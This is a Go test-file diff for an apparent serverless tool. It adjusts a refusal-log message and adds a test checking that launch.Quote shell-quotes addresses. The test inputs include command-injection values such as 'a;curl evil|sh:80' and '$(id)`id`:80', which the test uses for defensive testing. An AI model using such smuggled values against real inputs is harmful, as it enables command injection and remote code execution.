@@ -5,6 +5,7 @@ import (
 	"testing"
 
 	"hob/faas"
+	"hob/internal/launch"
 )
 
 func TestRefusedConnectionIsALineOfTheCallAndCounts(t *testing.T) {
@@ -18,7 +19,7 @@ func TestRefusedConnectionIsALineOfTheCallAndCounts(t *testing.T) {
 	defer c.Close()
 	id := r.Live()[0].ID
 	r.Refused(id, "tcp connection to 10.1.2.3:5432", "10.1.2.3:5432")
-	r.Refused(id, "17 to 255.255.255.255", "")
+	r.Refused(id, "17 to 255.255.255.255; nobody reaches it", "")
 	r.Refused("somebody", "tcp connection to 10.1.2.3:5432", "10.1.2.3:5432")
 	if n := r.Refusals(fn.ID); n != 2 {
 		t.Errorf("%d are counted, want 2", n)
@@ -26,10 +27,28 @@ func TestRefusedConnectionIsALineOfTheCallAndCounts(t *testing.T) {
 	lines := r.logs.peek(fn.ID + "//hob")
 	for _, want := range []string{
 		"refused: tcp connection to 10.1.2.3:5432; this opens it: hob update shop/" + fn.Name + " --allow 10.1.2.3:5432\n",
-		"refused: 17 to 255.255.255.255; this address cannot be opened\n",
+		"refused: 17 to 255.255.255.255; nobody reaches it\n",
 	} {
 		if !strings.Contains(lines, want) {
 			t.Errorf("the log is %q, want %q in it", lines, want)
+		}
+	}
+}
+
+func TestProposedCommandsHoldNothingThatAShellHeeds(t *testing.T) {
+	for text, want := range map[string]string{
+		"10.1.2.3:5432":     "10.1.2.3:5432",
+		"db.lan:443/tcp":    "db.lan:443/tcp",
+		"*.example.com:443": "'*.example.com:443'",
+		"[fd00::1]:80":      "'[fd00::1]:80'",
+		"":                  "''",
+		"a;curl evil|sh:80": "'a;curl evil|sh:80'",
+		"$(id)`id`:80":      "'$(id)`id`:80'",
+		"it's:80":           `'it'\''s:80'`,
+		"a\nb\x1b[2J:80":    "'a?b?[2J:80'",
+	} {
+		if got := launch.Quote(text); got != want {
+			t.Errorf("%q is quoted %s, want %s", text, got, want)
 		}
 	}
 }
